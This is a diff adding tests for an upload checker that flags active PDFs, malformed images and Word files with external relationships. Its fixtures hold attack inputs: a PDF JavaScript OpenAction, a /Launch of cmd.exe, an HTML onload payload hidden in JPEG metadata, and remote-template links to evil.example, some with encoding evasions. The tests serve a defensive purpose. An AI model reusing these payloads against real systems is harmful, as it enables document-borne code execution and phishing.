@@ -33,6 +33,74 @@ test('a script that was renamed to PDF is no PDF, whatever it begins with', asyn
     expect(['empty', 'other_kind', 'broken']).toContain(await faultOf(short));
 });
 
+test('what some programs write around a PDF, readers pass over, and so do we', async () => {
+  const pdf = samplePdf();
+  expect(await faultOf(Buffer.concat([Buffer.from('\ufeff'), pdf]))).toBe('pdf');
+  expect(await faultOf(Buffer.concat([Buffer.from('\r\n\n'), pdf]))).toBe('pdf');
+  expect(await faultOf(Buffer.concat([Buffer.alloc(2_000, '\n'), pdf]))).toBe('other_kind');
+  for (const zeros of [4_096, 80_508]) expect(await faultOf(Buffer.concat([pdf, Buffer.alloc(zeros)]))).toBe('pdf');
+  // What is active stays so, wherever it begins.
+  const script = samplePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ');
+  expect(await faultOf(Buffer.concat([Buffer.from('\ufeff\n'), script, Buffer.alloc(5_000)]))).toBe('active');
+});
+
+test('a photograph that is cut off is told to be incomplete, one that no browser shows is named, a page is no photograph', async () => {
+  const photo = await sharp({
+    create: {
+      width: 800,
+      height: 800,
+      channels: 3,
+      background: '#fff',
+      noise: { type: 'gaussian', mean: 128, sigma: 30 },
+    },
+  })
+    .jpeg()
+    .toBuffer();
+  expect(await faultOf(photo.subarray(0, Math.floor(photo.length * 0.9)))).toBe('broken');
+  expect(await faultOf(Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(500)]))).toBe(
+    'heic',
+  );
+  expect(await faultOf(await picture().gif().toBuffer())).toBe('other_kind');
+  expect(await faultOf('<svg xmlns="http://www.w3.org/2000/svg"/>')).toBe('other_kind');
+  // Settings of a printer, as a Mac writes them into the metadata.
+  const settings = Buffer.from(
+    'Photoshop 3.0\0<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple"><plist version="1.0"/>',
+  );
+  const withMetadata = (metadata: Buffer) =>
+    Buffer.concat([
+      photo.subarray(0, 2),
+      Buffer.from([0xff, 0xed, 0, metadata.length + 2]),
+      metadata,
+      photo.subarray(2),
+    ]);
+  expect(await faultOf(withMetadata(settings))).toBe('jpg');
+  expect(await faultOf(withMetadata(Buffer.from('<!DOCTYPE html><body onload=alert(1)>')))).toBe('other_kind');
+});
+
+test('a document that fetches its template or a picture is refused, one with links to follow is taken', async () => {
+  const document = (relation: string, encoding: BufferEncoding = 'utf8') =>
+    sampleZip([
+      ...wordNames,
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content: Buffer.from(`<?xml version="1.0"?><Relationships>${relation}</Relationships>`, encoding),
+      },
+    ]);
+  const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
+  const elsewhere = 'Target="https://evil.example/a.dotm" TargetMode="External"';
+  expect(await faultOf(document(`<Relationship Id="r1" ${type('hyperlink')} ${elsewhere}/>`))).toBe('docx');
+  expect(await faultOf(document(`<Relationship Id="r1" ${type('styles')} Target="styles.xml"/>`))).toBe('docx');
+  for (const hidden of [
+    `<Relationship Id="r1" ${type('attachedTemplate')} ${elsewhere}/>`,
+    `<Relationship Id="r1" ${type('image')} ${elsewhere}/>`,
+    `<r:Relationship Id='r1' TargetMode='&#69;xternal' Target='https://evil.example/>' ${type('attachedTemplate')}></r:Relationship>`,
+  ])
+    expect(await faultOf(document(hidden)), hidden).toBe('linked');
+  expect(await faultOf(document(`<Relationship Id="r1" ${type('attachedTemplate')} ${elsewhere}/>`, 'utf16le'))).toBe(
+    'linked',
+  );
+});
+
 test('macros, scripts inside and locked files are refused', async () => {
   expect(await faultOf(samplePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '))).toBe('active');
   expect(await faultOf(samplePdf('/AA << /S /Launch /F (cmd.exe) >> '))).toBe('active');
